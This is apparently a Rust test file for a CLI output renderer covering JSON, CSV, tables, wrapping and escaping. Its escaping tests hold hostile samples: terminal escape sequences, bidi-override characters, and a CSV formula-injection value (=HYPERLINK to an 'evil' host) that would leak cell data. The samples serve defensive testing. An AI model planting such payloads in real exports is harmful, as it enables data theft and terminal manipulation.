use serde_json::json;

use super::*;

#[derive(Debug, Serialize)]
struct Row {
    id: i64,
    full_name: &'static str,
    phone: Option<&'static str>,
    signed: bool,
    created_at: &'static str,
}

impl Tabular for Row {
    fn cell(&self, key: &str) -> String {
        match key {
            "id" => self.id.to_string(),
            "full_name" => self.full_name.to_string(),
            "created_at" => self.created_at[..16].replace('T', " "),
            _ => String::new(),
        }
    }
}

const KEYS: &[&str] = &["id", "full_name", "phone", "signed", "created_at"];
const TABLE_KEYS: &[&str] = &["id", "full_name", "created_at"];

fn rows() -> Vec<Row> {
    vec![
        Row {
            id: 1,
            full_name: "Kevin Casey",
            phone: None,
            signed: true,
            created_at: "2021-04-18T10:00:00+02:00",
        },
        Row {
            id: 2,
            full_name: "Zoë \"Z\", Ltd",
            phone: Some("+1 234"),
            signed: false,
            created_at: "2023-03-29T10:00:00+02:00",
        },
    ]
}

fn streamed(format: Format, rows: Vec<Row>) -> String {
    let mut buf = Vec::new();
    let mut stream = Stream::new(&mut buf, format, KEYS).unwrap();
    for row in &rows {
        stream.push(row).unwrap();
    }
    stream.finish().unwrap();
    String::from_utf8(buf).unwrap()
}

fn text(output: Output, format: Format, width: Option<usize>) -> String {
    let mut buf = Vec::new();
    render(&mut buf, output, format, width).unwrap();
    String::from_utf8(buf).unwrap()
}

fn table() -> Output {
    Output::Table {
        keys: TABLE_KEYS.to_vec(),
        rows: rows().iter().map(|r| cells(r, TABLE_KEYS)).collect(),
    }
}

#[test]
fn json_lists_are_one_array_with_null_for_absent_values() {
    let out = streamed(Format::Json, rows());
    let value: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(value.as_array().unwrap().len(), 2);
    assert_eq!(value[0]["phone"], serde_json::Value::Null);
    assert_eq!(value[1]["full_name"], "Zoë \"Z\", Ltd");
    assert_eq!(streamed(Format::Json, vec![]), "[]\n");
}

#[test]
fn csv_has_a_header_of_every_key_and_empty_cells_for_null() {
    let out = streamed(Format::Csv, rows());
    let mut lines = out.lines();
    assert_eq!(
        lines.next().unwrap(),
        "id,full_name,phone,signed,created_at"
    );
    assert_eq!(
        lines.next().unwrap(),
        "1,Kevin Casey,,true,2021-04-18T10:00:00+02:00"
    );
    assert_eq!(
        lines.next().unwrap(),
        "2,\"Zoë \"\"Z\"\", Ltd\",+1 234,false,2023-03-29T10:00:00+02:00"
    );
    assert_eq!(
        streamed(Format::Csv, vec![]),
        "id,full_name,phone,signed,created_at\n"
    );
}

#[test]
fn tables_show_the_table_keys_and_never_cut_when_piped() {
    let out = text(table(), Format::Table, None);
    assert!(
        out.contains("│ 1  │ Kevin Casey  │ 2021-04-18 10:00 │"),
        "{out}"
    );
    assert!(out.starts_with("┌────┬"), "{out}");
    assert!(!out.contains("phone"));
    assert!(out.ends_with("(2 rows)\n"));
    // Every line of the box has the same width.
    let widths: Vec<usize> = out
        .lines()
        .filter(|l| !l.starts_with('('))
        .map(unicode_width::UnicodeWidthStr::width)
        .collect();
    assert!(widths.windows(2).all(|w| w[0] == w[1]), "{out}");
    // A table that fits the terminal stays a table.
    assert_eq!(text(table(), Format::Table, Some(80)), out);
    // Too wide for the terminal: expanded records (psql's `\x auto`),
    // every value whole, nothing cut.
    let narrow = text(table(), Format::Table, Some(34));
    assert!(!narrow.contains('…'), "{narrow}");
    assert!(narrow.starts_with("-[ RECORD 1 ]"), "{narrow}");
    assert!(narrow.contains("-[ RECORD 2 ]"), "{narrow}");
    assert!(
        narrow.contains("created_at | 2021-04-18 10:00\n"),
        "{narrow}"
    );
    assert!(narrow.ends_with("(2 rows)\n"), "{narrow}");
    for line in narrow.lines() {
        assert!(unicode_width::UnicodeWidthStr::width(line) <= 34, "{line}");
    }
    let empty = Output::Table {
        keys: TABLE_KEYS.to_vec(),
        rows: vec![],
    };
    assert!(text(empty, Format::Table, None).ends_with("(0 rows)\n"));
}

#[test]
fn created_prints_the_id_or_the_record_in_json_and_show_is_vertical() {
    let record = json!({"id": 7, "notes": "a long note", "signed": true, "phone": null})
        .as_object()
        .unwrap()
        .clone();
    let created = |record: &Record| Output::Created {
        id: 7,
        record: record.clone(),
    };
    assert_eq!(text(created(&record), Format::Table, None), "7\n");
    let json: serde_json::Value =
        serde_json::from_str(&text(created(&record), Format::Json, None)).unwrap();
    assert_eq!(json["id"], 7);
    let shown = text(Output::Record(record.clone()), Format::Table, None);
    assert!(shown.contains("notes") && shown.contains("a long note"));
    assert!(shown.contains("yes"), "{shown}");
    let wrapped = text(Output::Record(record.clone()), Format::Table, Some(20));
    assert!(wrapped.lines().count() > 5, "{wrapped}");
    let csv = text(Output::Record(record), Format::Csv, None);
    assert_eq!(csv, "id,notes,signed,phone\n7,a long note,true,\n");
    assert_eq!(text(Output::Nothing, Format::Table, None), "");
    assert_eq!(
        text(Output::Message("hi".into()), Format::Json, None),
        "hi\n"
    );
}

#[test]
fn wrapping_never_splits_a_word_and_counts_display_columns() {
    let notes = "Wedding starts at 3PM, by the river. Catering is organized";
    let lines = expanded::wrap(notes, 12);
    assert_eq!(
        lines,
        [
            "Wedding",
            "starts at",
            "3PM, by the",
            "river.",
            "Catering is",
            "organized"
        ]
    );
    assert_eq!(lines.join(" "), notes);
    // Wide characters count two columns; only a word longer than a whole
    // line is ever broken.
    assert_eq!(expanded::wrap("日本語 テキスト", 8), ["日本語", "テキスト"]);
    assert_eq!(expanded::wrap("abcdefghij", 4), ["abcd", "efgh", "ij"]);
    assert_eq!(expanded::wrap("a\nb", 10), ["a", "b"]);
    assert_eq!(expanded::wrap("", 10), [""]);
}

#[test]
fn show_wraps_values_at_spaces() {
    let record = json!({"id": 7, "notes": "Kate needs to organize the DJ for after party."})
        .as_object()
        .unwrap()
        .clone();
    let shown = text(Output::Record(record), Format::Table, Some(30));
    let words = ["Kate", "needs", "organize", "party."];
    for line in shown.lines() {
        assert!(unicode_width::UnicodeWidthStr::width(line) <= 30, "{shown}");
    }
    for w in words {
        assert!(shown.contains(w), "{w} was split:\n{shown}");
    }
}

#[test]
fn nothing_hidden_reaches_the_output_raw() {
    let raw = "x\u{1b}[2J\u{200E}\u{7}";
    let table = Output::Table {
        keys: TABLE_KEYS.to_vec(),
        rows: vec![vec!["1".into(), raw.into(), "a\nb".into()]],
    };
    let out = text(table, Format::Table, None);
    assert!(
        out.contains("│ x\\e[2J\\u{200E}\\x07 │ a\\nb       │"),
        "{out}"
    );
    let record = json!({"full_name": raw, "notes": "one\ntwo\tthree"})
        .as_object()
        .unwrap()
        .clone();
    let shown = text(Output::Record(record.clone()), Format::Table, None);
    assert!(shown.contains("x\\e[2J\\u{200E}\\x07"), "{shown}");
    assert!(
        shown.contains("one ") && shown.contains("two\\tthree"),
        "{shown}"
    );
    let json = text(Output::Record(record.clone()), Format::Json, None);
    assert!(json.contains(r#""x\u001b[2J\u200e\u0007""#), "{json}");
    let back: serde_json::Value = serde_json::from_str(&json).unwrap();
    assert_eq!(back["full_name"], raw);
    let csv = text(Output::Record(record), Format::Csv, None);
    assert_eq!(
        csv,
        "full_name,notes\nx\\e[2J\\u{200E}\\x07,\"one\ntwo\tthree\"\n"
    );
    let message = text(
        Output::Message(format!("hi {raw}\nbye")),
        Format::Table,
        None,
    );
    assert_eq!(message, "hi x\\e[2J\\u{200E}\\x07\nbye\n");
}

#[test]
fn streamed_rows_are_escaped_and_csv_formulas_neutralised() {
    let rows = vec![Row {
        id: 1,
        full_name: "=HYPERLINK(\"http://evil/?\"&A1,\"x\")\u{202E}",
        phone: Some("+678 123 456 78"),
        signed: true,
        created_at: "2021-04-18T10:00:00+02:00",
    }];
    let csv = streamed(Format::Csv, rows);
    assert_eq!(
        csv.lines().nth(1).unwrap(),
        "1,\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\\u{202E}\",+678 123 456 78,true,\
         2021-04-18T10:00:00+02:00"
    );
    let rows = vec![Row {
        id: 1,
        full_name: "a\u{200F}b",
        phone: None,
        signed: true,
        created_at: "2021-04-18T10:00:00+02:00",
    }];
    let json = streamed(Format::Json, rows);
    assert!(json.contains(r#""a\u200fb""#), "{json}");
    let value: serde_json::Value = serde_json::from_str(&json).unwrap();
    assert_eq!(value[0]["full_name"], "a\u{200F}b");
}
